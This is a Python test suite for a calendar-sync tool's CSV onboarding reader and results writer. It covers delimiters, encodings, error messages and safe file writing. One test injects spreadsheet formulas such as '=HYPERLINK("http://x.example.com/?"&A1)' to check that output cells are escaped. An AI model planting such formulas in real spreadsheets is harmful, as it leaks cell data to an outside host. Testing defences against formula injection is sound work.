"""The file of people: what spreadsheets write is read, and what is wrong is told by line and column."""

from __future__ import annotations

import csv
import io
import os
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import event, given
from hypothesis import strategies as st
from typer.testing import CliRunner

from calendarsync.cli.app import app
from calendarsync.cli.onboarding.people import (
    COLUMNS,
    PROVIDERS,
    End,
    People,
    Person,
    UnusableFile,
    read_people,
)
from calendarsync.cli.onboarding.results import Outcome, Results

DEFAULTS = {"sync_mode": "blocker", "direction": "bidirectional"}
HEADER = "email,a_provider,a_url,a_username,a_password,b_provider,b_url,b_username,b_password"
ROW = "ann@example.com,caldav,https://a.example.com/,ann,s3cret,caldav,https://b.example.com/,ann,s3cret"
ANN = Person(
    2,
    "ann@example.com",
    End("caldav", "https://a.example.com/", "ann", "s3cret", "", "ann@example.com"),
    End("caldav", "https://b.example.com/", "ann", "s3cret", "", "ann@example.com"),
    "blocker",
    "bidirectional",
)


@pytest.fixture
def file(tmp_path: Path) -> Path:
    path = tmp_path / "people.csv"
    path.touch(0o600)
    return path


def read(file: Path, text: str | bytes, **defaults: str) -> People:
    file.write_bytes(text.encode() if isinstance(text, str) else text)
    return read_people(file, DEFAULTS | defaults)


def problems(file: Path, text: str | bytes, **defaults: str) -> list[str]:
    with pytest.raises(UnusableFile) as caught:
        read(file, text, **defaults)
    return [str(each) for each in caught.value.problems]


EXCEL = f"{HEADER}\r\n{ROW}\r\n"


@pytest.mark.parametrize(
    "text",
    [
        EXCEL,
        EXCEL.replace(",", ";"),
        EXCEL.replace(",", "\t"),
        "\ufeff" + EXCEL.replace(",", ";"),
        EXCEL.replace(",", "\t").encode("utf-16"),
        "sep=;\r\n" + EXCEL.replace(",", ";"),
        EXCEL.replace("ann,", '"ann",').replace("\r\n", "\n"),
        EXCEL.replace("email", " E-Mail ".replace("-", "")).replace("ann@", " ann@"),
        "\r\n" + EXCEL + ",,,,\r\n\r\n",
        "sep=\t\r\n" + EXCEL.replace(",", "\t"),
    ],
    ids=["commas", "semicolons", "tabs", "bom", "utf-16", "sep", "quotes", "spaces", "blank", "sep-tab"],
)
def test_what_spreadsheets_write(file: Path, text: str | bytes) -> None:
    (person,) = read(file, text).rows
    assert person == Person(person.line, *list(vars(ANN).values())[1:])
    assert person.key == ANN.key


def test_a_quoted_value_may_hold_anything_but_a_line_break(file: Path) -> None:
    text = EXCEL.replace("s3cret", '"a;b,""c"" "')
    (person,) = read(file, text).rows
    assert person.a.password == 'a;b,"c" '
    assert problems(file, EXCEL.replace("ann,", '"an\nn",')) == [
        "line 2, a_username: holds a control character or a line break",
        "line 2, b_username: holds a control character or a line break",
    ]


def test_defaults_stand_in_for_what_is_empty(file: Path) -> None:
    text = "email;a_url;b_calendar_id;b_email;direction\nann@example.com;https://x.example.com/a.ics;sbx_1;b@x;\n"
    given = {"a_provider": "ics", "b_provider": "sandbox", "direction": "a_to_b", "sync_mode": "full"}
    (person,) = read(file, text, **given).rows
    assert (person.sync_mode, person.direction) == ("full", "a_to_b")
    assert person.a == End("ics", "https://x.example.com/a.ics", email="ann@example.com")
    assert person.b == End("sandbox", calendar_id="sbx_1", email="b@x")


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("", ["the first line must name the columns: " + ", ".join(COLUMNS)]),
        (f"{HEADER}\n", ["the file has no rows"]),
        ("a;b\n1;2", ["column 1: there is no column 'a'", "column 2: there is no column 'b'", "must name"]),
        (EXCEL.replace("a_url", "a_ulr"), ["line 1, column 3: there is no column 'a_ulr'; is a_url meant?"]),
        (EXCEL.replace("a_url", "email"), ["line 1, column 3: email is there twice"]),
        (f"{HEADER}\n{ROW},more\n", ["line 2: has 10 values, and the header 9 columns"]),
        (f"{HEADER},\n{ROW},more\n", ["line 2, column 10: has a value, and no name in the header"]),
        (f"{HEADER}\n{ROW}\n{ROW}\n", ["line 3: the same as line 2"]),
        (EXCEL.replace("ann@example.com", "ann"), ["line 2, email: must be an address"]),
        (
            EXCEL.replace("caldav", "caldev"),
            ["a_provider: must be one of caldav", "b_provider: must be one of"],
        ),
        (EXCEL.replace("s3cret", ""), ["a_password: is empty, and caldav needs it", "line 2, b_password"]),
        (EXCEL.replace("b.example", "a.example"), ["line 2, b_url: the two calendars are the same"]),
        (EXCEL.replace("ann,", '"ann,'), ["line 2: this is not CSV: ',' expected after '\"'"]),
        (EXCEL.replace("ann,", '"ann,', 1), ["line 2: this is not CSV: unexpected end of data"]),
        (EXCEL.replace("ann,", "a\x07nn,"), ["line 2, a_username: holds a control", "line 2, b_username"]),
        (
            f"{HEADER}\nann@example.com\n",
            ["line 2, a_provider: must be", "line 2, b_provider: must be"],
        ),
        (
            "email,a_provider,b_provider\nann@example.com,sandbox,sandbox\n",
            ["line 2, a_calendar_id: is empty, and sandbox needs it", "line 2, b_calendar_id"],
        ),
        (
            EXCEL.replace("ann,", "änn,").encode("cp1252"),
            ['line 2: this is not UTF-8; save it as "CSV UTF-8"'],
        ),
        (b"\xff\xfe\x00", ["line 1: this is not UTF-8"]),
    ],
)
def test_what_is_wrong_is_told(file: Path, text: str | bytes, found: list[str]) -> None:
    told = problems(file, text)
    assert len(told) == len(found)
    for line, part in zip(told, found, strict=True):
        assert part in line


def test_words_and_directions_are_checked(file: Path) -> None:
    head = f"{HEADER},sync_mode,direction"
    assert problems(file, f"{head}\n{ROW},block,both") == [
        "line 2, sync_mode: must be one of blocker, full",
        "line 2, direction: must be one of bidirectional, a_to_b, b_to_a",
    ]
    feed = ROW.replace("caldav", "ics", 1)
    for direction, fine in (("a_to_b", True), ("b_to_a", False), ("bidirectional", False)):
        text = f"{head}\n{feed},full,{direction}"
        if fine:
            assert len(read(file, text).rows) == 1
        else:
            assert problems(file, text) == [
                "line 2, direction: an ics calendar can only be read: a goes with a_to_b"
            ]


def test_all_problems_are_told_at_once(file: Path) -> None:
    bad = ROW.replace("@", "")
    assert [each.partition(":")[0] for each in problems(file, f"{HEADER}\n{bad}\n{ROW}\n{bad}")] == [
        "line 2, email",
        "line 4, email",
    ]


CELLS = st.text(st.characters(exclude_categories=["Cs"]), max_size=12)


@given(st.lists(st.lists(CELLS, max_size=11), max_size=4), st.sampled_from(",;\t"), st.binary(max_size=20))
def test_nothing_but_unusable(
    tmp_path_factory: pytest.TempPathFactory, rows: list[list[str]], delimiter: str, tail: bytes
) -> None:
    """Whatever a file holds, it is read, or its problems are told; a row that is read is read back the same."""
    text = io.StringIO(newline="")
    writer = csv.writer(text, delimiter=delimiter)
    writer.writerow(HEADER.split(","))
    writer.writerows(rows)
    path = tmp_path_factory.mktemp("any") / "people.csv"
    path.write_bytes(text.getvalue().encode() + tail)
    try:
        people = read_people(path, DEFAULTS)
    except UnusableFile as error:
        event(f"{len(error.problems)} problems")
        return
    keys = [person.key for person in people.rows]
    assert len(set(keys)) == len(keys) > 0


@pytest.fixture
def people(file: Path) -> People:
    second = ROW.replace("ann", "ben")
    return read(file, f"{HEADER}\n{ROW}\n{second}\n".replace(",", ";"))


@pytest.fixture
def path(file: Path) -> Iterator[Path]:
    yield file.with_suffix(".results.csv")
    assert [each.name for each in file.parent.iterdir() if each.name.startswith(".")] == []


def test_results_are_read_back(people: People, path: Path) -> None:
    results = Results(path, people)
    first, second = people.rows
    results.outcomes[first.key] = Outcome("done", "conn_1", "conn_2", "pair_1")
    results.outcomes[second.key] = Outcome(
        "failed", "conn_3", "", "", "validation_error", 'b_url: "no";\nsuch'
    )
    results.write()
    again = Results(path, people)
    assert again.of(first) == Outcome("done", "conn_1", "conn_2", "pair_1")
    assert again.of(second) == Outcome("open", "conn_3")
    text = path.read_bytes()
    assert text.startswith(b"\xef\xbb\xbfline;email;status;connection_a_id;")
    assert b"s3cret" not in text
    assert b"example.com/" not in text
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_result_is_no_formula(file: Path, path: Path, start: str) -> None:
    """A spreadsheet that opens the file carries nothing out; a second run reads it all the same."""
    cell = f'{start}HYPERLINK("http://x.example.com/?"&A1)'
    email = (cell if start in "=+-" else "ann") + "@example.com"
    quoted = '"{}"'.format(email.replace('"', '""'))
    people = read(file, f"{HEADER}\n{ROW.replace('ann@example.com', quoted)}\n")
    results = Results(path, people)
    (person,) = people.rows
    assert person.email == email
    results.outcomes[person.key] = Outcome("done", "conn_1", cell, "pair_1", cell, cell)
    results.write()
    (_, written) = csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline=""))
    assert [each for each in written if each.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
    assert f"'{cell}" in written
    assert Results(path, people).of(person).pair_id == "pair_1"


def test_a_row_is_found_wherever_it_stands(people: People, path: Path, file: Path) -> None:
    results = Results(path, people)
    results.outcomes[people.rows[1].key] = Outcome("done", "conn_1", "conn_2", "pair_1")
    results.write()
    moved = read(file, f"{HEADER}\n{ROW.replace('ann', 'ben').replace('s3cret', 'newer')}\n")
    assert Results(path, moved).of(moved.rows[0]).status == "done"
    other = read(file, f"{HEADER}\n{ROW.replace('ann', 'ben').replace('b.example', 'c.example')}\n")
    assert Results(path, other).of(other.rows[0]).status == "open"


@pytest.mark.parametrize("content", [b"", b"email;a\n1;2\n", b"\xff\xfe\x00", b"x" * 200_000])
def test_another_file_is_not_overwritten(people: People, path: Path, content: bytes) -> None:
    path.write_bytes(content)
    with pytest.raises(UnusableFile, match="no result file"):
        Results(path, people)
    assert path.read_bytes() == content


def test_a_full_disk_leaves_what_was_there(
    people: People, path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    results = Results(path, people)
    results.write()
    before = path.read_bytes()

    def full(descriptor: int) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    with pytest.raises(OSError, match="No space"):
        results.write()
    assert path.read_bytes() == before


def run(*arguments: object, **environment: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(app, ["onboard", *map(str, arguments)], env=environment)
    return result.exit_code, result.stdout, result.stderr


def test_a_dry_run_sends_nothing(file: Path, people: People) -> None:
    code, output, errors = run(file, "--dry-run", "--url", "http://127.0.0.1:1")
    assert (code, errors) == (0, "")
    assert output == f"{file}: 2 rows, and nothing is wrong with them. Nothing was sent.\n"
    assert [each.name for each in file.parent.iterdir()] == ["people.csv"]


def test_an_unusable_file_ends_with_2(file: Path) -> None:
    file.write_text(EXCEL.replace("caldav", "caldev"))
    code, output, errors = run(file)
    assert (code, output) == (2, "")
    assert errors.splitlines() == [
        f"Error: {file}: line 2, {end}_provider: must be one of {', '.join(PROVIDERS)}" for end in "ab"
    ]
    code, _, errors = run(file.with_name("none.csv"))
    assert code == 2
    assert "cannot be read: No such file" in errors


def test_a_key_is_needed(file: Path, people: People) -> None:
    code, _, errors = run(file, CALENDARSYNC_API_KEY="")
    assert code == 2
    assert "CALENDARSYNC_API_KEY" in errors
    code, _, errors = run(file, "--key-file", file.with_name("none"))
    assert (code, "cannot be read" in errors) == (2, True)


def test_readers_of_passwords_are_warned_of(file: Path, people: People) -> None:
    file.chmod(0o644)
    code, _, errors = run(file, "--dry-run")
    assert code == 0
    assert f"chmod 600 {file}" in errors
